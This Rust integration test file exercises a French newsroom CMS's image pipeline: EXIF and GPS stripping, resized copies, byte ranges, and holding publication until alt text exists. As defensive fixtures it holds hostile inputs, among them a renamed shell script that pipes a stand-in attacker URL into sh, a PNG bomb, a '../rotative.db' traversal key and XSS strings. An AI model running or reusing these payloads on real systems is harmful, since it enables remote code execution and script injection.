//! Images through the real router: uploads (real and hostile files), metadata removed from every
//! served file, resized copies, ranges, the library, and alt text before publication.

use std::io::Cursor;

use axum::http::StatusCode;
use img_parts::{ImageEXIF, jpeg::Jpeg};
use rotative_media::{ImageKind, StorageKey, illustration};
use rotative_store::MediaQuery;

use crate::{
    helpers::{Part, TestSite},
    newsroom::{act, csrf, newsroom, sign_in, write_story},
};

const GPS_MARK: &[u8] = b"Rue des Sources 12";

/// A camera JPEG: GPS position, the owner's name, and a description naming a street.
fn gps_tagged_jpeg(width: u32, height: u32) -> Vec<u8> {
    use exif::{Field, In, Tag, Value};
    let fields = [
        Field {
            tag: Tag::GPSLatitudeRef,
            ifd_num: In::PRIMARY,
            value: Value::Ascii(vec![b"N".to_vec()]),
        },
        Field {
            tag: Tag::GPSLatitude,
            ifd_num: In::PRIMARY,
            value: Value::Rational(vec![(53, 1).into(), (54, 1).into(), (7, 1).into()]),
        },
        Field {
            tag: Tag::Artist,
            ifd_num: In::PRIMARY,
            value: Value::Ascii(vec![b"Source protegee".to_vec()]),
        },
        Field {
            tag: Tag::ImageDescription,
            ifd_num: In::PRIMARY,
            value: Value::Ascii(vec![GPS_MARK.to_vec()]),
        },
    ];
    let mut writer = exif::experimental::Writer::new();
    for field in &fields {
        writer.push_field(field);
    }
    let mut tiff = Cursor::new(Vec::new());
    writer.write(&mut tiff, false).unwrap();
    let mut jpeg =
        Jpeg::from_bytes(illustration::draw("minsk", width, height).unwrap().into()).unwrap();
    jpeg.set_exif(Some(tiff.into_inner().into()));
    let mut out = Vec::new();
    jpeg.encoder().write_to(&mut out).unwrap();
    out
}

fn exif_fields(bytes: &[u8]) -> usize {
    exif::Reader::new()
        .read_from_container(&mut Cursor::new(bytes))
        .map_or(0, |exif| exif.fields().count())
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

async fn upload(
    site: &TestSite,
    cookie: &str,
    file: &[u8],
    alt: &str,
    accept_json: bool,
) -> crate::helpers::Page {
    let token = csrf(site, cookie).await;
    let parts = [
        Part::Text("csrf", &token),
        Part::Text("alt", alt),
        Part::Text("caption", "La place, un matin"),
        Part::Text("credit", "Illustration Rotative"),
        Part::File("file", "photo.jpg", file),
    ];
    site.post_multipart("/redaction/medias", cookie, &parts, accept_json)
        .await
}

async fn library_size(site: &TestSite) -> u64 {
    site.state
        .store
        .media_library(&MediaQuery {
            limit: 1,
            ..MediaQuery::default()
        })
        .await
        .unwrap()
        .1
}

#[tokio::test]
async fn every_served_file_is_free_of_the_camera_metadata() {
    let site = newsroom().await;
    let julie = sign_in(&site, "julie@exemple.fr").await;
    let tagged = gps_tagged_jpeg(1800, 1200);
    assert!(exif_fields(&tagged) >= 4 && contains(&tagged, GPS_MARK));
    let response = upload(&site, &julie, &tagged, "Une place enneigée", false).await;
    assert_eq!(response.status, StatusCode::SEE_OTHER, "{}", response.body);
    let detail = response.header("location").unwrap().to_owned();
    let id: i64 = detail.rsplit('/').next().unwrap().parse().unwrap();
    let record = site
        .state
        .store
        .media_by_id(rotative_domain::MediaId(id))
        .await
        .unwrap()
        .unwrap();
    assert_eq!((record.width, record.height), (1800, 1200));
    assert_eq!(
        record.description.alt.as_deref(),
        Some("Une place enneigée")
    );
    assert!(
        rotative_web::make_pending_variants(&site.state)
            .await
            .unwrap()
            >= 1
    );
    assert!(
        site.state
            .store
            .media_without_variants(10)
            .await
            .unwrap()
            .is_empty(),
        "every image has its copies, made once"
    );
    let original = StorageKey::parse(&record.storage_key).unwrap();
    let mut keys = vec![original.clone()];
    for width in [320, 640, 1024, 1600] {
        for kind in [ImageKind::Jpeg, ImageKind::WebP] {
            keys.push(original.variant(width, kind));
        }
    }
    for key in keys {
        let served = site.get(&format!("/media/{key}")).await;
        assert_eq!(served.status, StatusCode::OK, "{key}");
        assert_eq!(
            served.header("content-type"),
            Some(key.kind().content_type())
        );
        assert_eq!(served.header("x-content-type-options"), Some("nosniff"));
        assert!(
            served
                .header("cache-control")
                .unwrap()
                .contains("immutable")
        );
        assert_eq!(exif_fields(&served.raw), 0, "{key} carries EXIF");
        assert!(!contains(&served.raw, GPS_MARK), "{key} names the street");
        assert!(!contains(&served.raw, b"Source protegee"), "{key}");
        let decoded = image::load_from_memory(&served.raw).unwrap();
        assert!(decoded.width() <= 1800, "{key}");
    }
    let page = site.request("GET", &detail, Some(&julie), None).await;
    assert!(
        page.body.contains("![Une place enneigée](media:"),
        "{}",
        page.body
    );
}

#[tokio::test]
async fn hostile_files_are_refused_and_nothing_is_stored() {
    let site = newsroom().await;
    let julie = sign_in(&site, "julie@exemple.fr").await;
    let files_before = site.media_files();
    let library_before = library_size(&site).await;
    let jpeg = illustration::draw("essai", 400, 300).unwrap();
    let mut bomb_header = Vec::new();
    image::DynamicImage::new_luma8(1, 1)
        .write_to(&mut Cursor::new(&mut bomb_header), image::ImageFormat::Png)
        .unwrap();
    let mut png = img_parts::png::Png::from_bytes(bomb_header.into()).unwrap();
    let mut header = png.chunks()[0].contents().to_vec();
    header[..8].copy_from_slice(&[0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30]);
    png.chunks_mut()[0] = img_parts::png::PngChunk::new(*b"IHDR", header.into());
    let mut bomb = Vec::new();
    png.encoder().write_to(&mut bomb).unwrap();
    let oversized = vec![0xFF_u8; 26 * 1024 * 1024];
    let cases: [(&str, &[u8], StatusCode, &str); 6] = [
        (
            "SVG with a script",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "SVG",
        ),
        (
            "a script renamed .jpg",
            b"#!/bin/sh\ncurl https://attaquant.example | sh\n",
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "JPEG, PNG, WebP ou GIF",
        ),
        (
            "a PNG bomb",
            &bomb,
            StatusCode::UNPROCESSABLE_ENTITY,
            "30000 × 30000 pixels",
        ),
        (
            "a truncated JPEG",
            &jpeg[..jpeg.len() / 2],
            StatusCode::UNPROCESSABLE_ENTITY,
            "endommagée",
        ),
        (
            "a file over the size limit",
            &oversized,
            StatusCode::PAYLOAD_TOO_LARGE,
            "25 Mo",
        ),
        (
            "an empty file",
            b"",
            StatusCode::UNPROCESSABLE_ENTITY,
            "Choisissez",
        ),
    ];
    for (what, bytes, status, message) in cases {
        let response = upload(&site, &julie, bytes, "Texte", false).await;
        assert_eq!(response.status, status, "{what}: {}", response.body);
        assert!(response.body.contains(message), "{what}: {}", response.body);
        assert!(
            response.body.contains("lang=\"fr\""),
            "{what}: a themed page"
        );
    }
    let forged = site
        .post_multipart(
            "/redaction/medias",
            &julie,
            &[
                Part::File("file", "photo.jpg", &jpeg),
                Part::Text("csrf", "x"),
            ],
            false,
        )
        .await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN, "token after the file");
    assert_eq!(site.media_files(), files_before, "no file stored");
    assert_eq!(library_size(&site).await, library_before, "no record");
}

#[tokio::test]
async fn media_answers_ranges_and_unknown_keys() {
    let site = newsroom().await;
    let julie = sign_in(&site, "julie@exemple.fr").await;
    let uploaded = upload(&site, &julie, &gps_tagged_jpeg(800, 600), "Une rue", true).await;
    assert_eq!(uploaded.status, StatusCode::OK);
    let json: serde_json::Value = serde_json::from_str(&uploaded.body).unwrap();
    let key = json["key"].as_str().unwrap().to_owned();
    assert_eq!(json["markdown"], format!("![Une rue](media:{key})"));
    let whole = site.get(&format!("/media/{key}")).await;
    assert_eq!(whole.header("accept-ranges"), Some("bytes"));
    let part = site
        .send_with(&format!("/media/{key}"), &[("range", "bytes=2-11")])
        .await;
    assert_eq!(part.status, StatusCode::PARTIAL_CONTENT);
    assert_eq!(part.raw, whole.raw[2..12]);
    assert_eq!(
        part.header("content-range").unwrap(),
        format!("bytes 2-11/{}", whole.raw.len())
    );
    let tail = site
        .send_with(&format!("/media/{key}"), &[("range", "bytes=-4")])
        .await;
    assert_eq!(tail.raw, whole.raw[whole.raw.len() - 4..]);
    let beyond = site
        .send_with(&format!("/media/{key}"), &[("range", "bytes=99999999-")])
        .await;
    assert_eq!(beyond.status, StatusCode::RANGE_NOT_SATISFIABLE);
    let cached = site
        .send_with(
            &format!("/media/{key}"),
            &[("if-none-match", &format!("\"{key}\""))],
        )
        .await;
    assert_eq!(cached.status, StatusCode::NOT_MODIFIED);
    // A copy asked for before the background job ran is made on the spot.
    let copy = key.replace(".jpg", "-640.webp");
    let served = site.get(&format!("/media/{copy}")).await;
    assert_eq!(served.status, StatusCode::OK);
    assert_eq!(image::load_from_memory(&served.raw).unwrap().width(), 640);
    for unknown in [
        "../rotative.db",
        "0123456789abcdef0123456789abcdef.svg",
        "0123456789abcdef0123456789abcdef.jpg",
        "0123456789abcdef0123456789abcdef-640.jpg",
    ] {
        assert_eq!(
            site.get(&format!("/media/{unknown}")).await.status,
            StatusCode::NOT_FOUND,
            "{unknown}"
        );
    }
}

#[tokio::test]
async fn an_image_without_alt_text_holds_publication_until_the_library_describes_it() {
    let site = newsroom().await;
    let julie = sign_in(&site, "julie@exemple.fr").await;
    let chef = sign_in(&site, "chef@exemple.fr").await;
    let uploaded = upload(&site, &julie, &gps_tagged_jpeg(1200, 800), "", true).await;
    let json: serde_json::Value = serde_json::from_str(&uploaded.body).unwrap();
    let key = json["key"].as_str().unwrap().to_owned();
    let body = format!("Premier paragraphe.\n\n![](media:{key})\n\nSuite.");
    let story = write_story(&site, &julie, "La place au matin", &body).await;
    let editor = site.request("GET", &story, Some(&julie), None).await;
    assert!(
        editor.body.contains(&format!("«\u{a0}{key}\u{a0}»")),
        "the editor names the image to describe"
    );
    // Refused inside the newsroom: the editor again, the reason beside the text, the text there.
    let token = csrf(&site, &chef).await;
    let refused = site
        .request(
            "POST",
            &format!("{story}/action"),
            Some(&chef),
            Some(&[("csrf", token.as_str()), ("action", "publish")]),
        )
        .await;
    assert_eq!(refused.status, StatusCode::CONFLICT);
    assert!(
        refused.body.contains("L’action n’a pas abouti"),
        "{}",
        refused.body
    );
    assert!(
        refused
            .body
            .contains("class=\"field-error\" id=\"body-erreur\">Sans texte alternatif")
    );
    assert!(refused.body.contains("aria-invalid=\"true\""));
    assert!(refused.body.contains(&format!("![](media:{key})")));
    assert!(!refused.body.contains("Action impossible"));

    let found = site
        .request("GET", "/redaction/medias?q=MATIN", Some(&chef), None)
        .await;
    assert!(found.body.contains("1 image pour"), "{}", found.body);
    assert!(found.body.contains("Sans texte alternatif"));
    let record = site.state.store.media_by_key(&key).await.unwrap().unwrap();
    let token = csrf(&site, &chef).await;
    let describe = |alt: &'static str, caption: &'static str, credit: &'static str| {
        let (site, chef, token) = (&site, &chef, &token);
        let address = format!("/redaction/medias/{}", record.id.0);
        async move {
            site.request(
                "POST",
                &address,
                Some(chef),
                Some(&[
                    ("csrf", token.as_str()),
                    ("alt", alt),
                    ("caption", caption),
                    ("credit", credit),
                ]),
            )
            .await
        }
    };
    let described = describe(
        "Des passants traversent une place enneigée",
        "La place, un matin",
        "Illustration Rotative",
    )
    .await;
    assert_eq!(
        described.status,
        StatusCode::SEE_OTHER,
        "{}",
        described.body
    );
    assert_eq!(
        act(&site, &chef, &story, "publish", "").await,
        StatusCode::SEE_OTHER
    );
    let public = site.first_article_path().await;
    let page = site.get(&public).await.body;
    assert!(page.contains("alt=\"Des passants traversent une place enneigée\""));
    assert!(page.contains("<source type=\"image/webp\" srcset=\"/media/"));
    assert!(page.contains(&format!(
        "<meta property=\"og:image\" content=\"https://journal.example/media/{}-1024.jpg\">",
        &key[..32]
    )));
    let hostile = describe(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><script>alert(2)</script>",
    )
    .await;
    assert_eq!(hostile.status, StatusCode::SEE_OTHER);
    let page = site.get(&public).await.body;
    assert!(!page.contains("<script>alert") && !page.contains("<img src=x"));
}

#[tokio::test]
async fn a_public_story_takes_no_new_image_that_nothing_describes() {
    let site = newsroom().await;
    let chef = sign_in(&site, "chef@exemple.fr").await;
    let story = write_story(&site, &chef, "La place au matin", "Premier paragraphe.").await;
    assert_eq!(
        act(&site, &chef, &story, "publish", "").await,
        StatusCode::SEE_OTHER
    );
    let uploaded = upload(&site, &chef, &gps_tagged_jpeg(1200, 800), "", true).await;
    let json: serde_json::Value = serde_json::from_str(&uploaded.body).unwrap();
    let key = json["key"].as_str().unwrap().to_owned();
    let token = csrf(&site, &chef).await;
    let body = format!("Premier paragraphe.\n\n![](media:{key})");
    let refused = site
        .request(
            "POST",
            &story,
            Some(&chef),
            Some(&[
                ("csrf", token.as_str()),
                ("headline", "La place au matin"),
                ("body", &body),
                ("section", "monde"),
                ("kind", "news"),
                ("intent", "save"),
            ]),
        )
        .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        refused.body.contains(&format!("«\u{a0}{key}\u{a0}»")),
        "{}",
        refused.body
    );
}

#[tokio::test]
async fn an_image_whose_copies_cannot_be_made_stays_pending_without_stopping_the_others() {
    let site = newsroom().await;
    let missing = rotative_store::NewMedia {
        storage_key: "0123456789abcdef0123456789abcdef.jpg".into(),
        content_type: "image/jpeg".into(),
        width: 2000,
        height: 1000,
        byte_size: 1,
        ..rotative_store::NewMedia::default()
    };
    site.state.store.record_media(&missing).await.unwrap();
    let made = tokio::time::timeout(
        std::time::Duration::from_secs(30),
        rotative_web::make_pending_variants(&site.state),
    )
    .await
    .expect("the maker returns instead of retrying forever")
    .unwrap();
    assert_eq!(made, 1, "the story's own image got its copies");
    let pending = site.state.store.media_without_variants(10).await.unwrap();
    assert_eq!(pending.len(), 1, "the broken one waits for the next round");
    assert_eq!(pending[0].storage_key, missing.storage_key);
}
